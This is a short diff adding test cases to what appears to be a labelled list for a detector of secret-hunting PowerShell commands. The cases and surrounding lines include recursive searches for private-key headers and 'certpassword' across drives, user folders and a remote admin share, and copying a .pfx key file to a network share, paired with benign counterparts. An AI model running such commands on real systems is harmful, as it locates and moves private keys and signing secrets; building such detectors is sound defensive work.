@@ -22,6 +22,8 @@ ACTIONS = [
     ("gci C:\\ -Recurse | Select-String 'BEGIN RSA PRIVATE'", {"hunt_key_headers"}, "search_keys"),
     ("Select-String -Path C:\\Users\\* -Pattern 'PRIVATE KEY'", {"hunt_key_headers"}, "search_keys"),
     ("gci C:\\work\\app\\src -Recurse | Select-String 'PRIVATE KEY'", set(), ""),
+    ("gci \\\\fs1\\c$ -r -inc *.ps1 | sls 'certpassword'", {"hunt_signing_secrets", "input_remote"}, "search_keys"),
+    ("gci C:\\work\\app -r -inc *.ps1 | sls 'certpassword'", set(), ""),
     ("gci C:\\ -Recurse | Select-String 'BEGIN CERTIFICATE'", set(), ""),
     ("gci .\\src -Recurse -Filter *.snk", {"search_key_files"}, "search_keys"),
     ("Copy-Item D:\\keys\\a.pfx \\\\host\\share", {"copy_key_file", "key_to_share"}, "copy_key"),
